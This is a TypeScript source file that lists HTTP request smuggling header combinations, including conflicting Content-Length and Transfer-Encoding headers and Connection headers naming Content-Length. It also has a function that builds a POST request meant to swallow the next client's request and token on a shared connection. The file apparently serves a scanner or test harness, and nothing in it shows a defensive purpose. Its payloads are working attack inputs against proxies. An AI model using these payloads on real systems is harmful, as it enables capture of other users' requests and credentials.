import { headLines } from './write-request.ts'

/** Header lines for a request with a body of a given length. */
export interface Smuggling {
  readonly name: string
  readonly lines: (length: number) => readonly string[]
}

/** Headers that may make a proxy forward a body without its length. */
export const smugglings: readonly Smuggling[] = [
  {
    name: 'Connection: content-length',
    lines: (n) => ['Connection: content-length', `Content-Length: ${n}`],
  },
  {
    name: 'Connection: keep-alive, Content-Length',
    lines: (n) => ['Connection: keep-alive, Content-Length', `Content-Length: ${n}`],
  },
  { name: 'Content-Length on GET', lines: (n) => [`Content-Length: ${n}`] },
  {
    name: 'Content-Length beside chunked',
    lines: (n) => [`Content-Length: ${n}`, 'Transfer-Encoding: chunked'],
  },
  {
    name: 'Content-Length beside an unknown coding',
    lines: (n) => [`Content-Length: ${n}`, 'Transfer-Encoding: xchunked'],
  },
]

/**
 * Returns a request that claims the next bytes of its connection as its body. These bytes would be
 * another client's request with a token.
 */
export function smuggleOf(host: string, swallowed: number): string {
  return headLines(['POST /SMUGGLED HTTP/1.1', `Host: ${host}`, `Content-Length: ${swallowed}`])
}
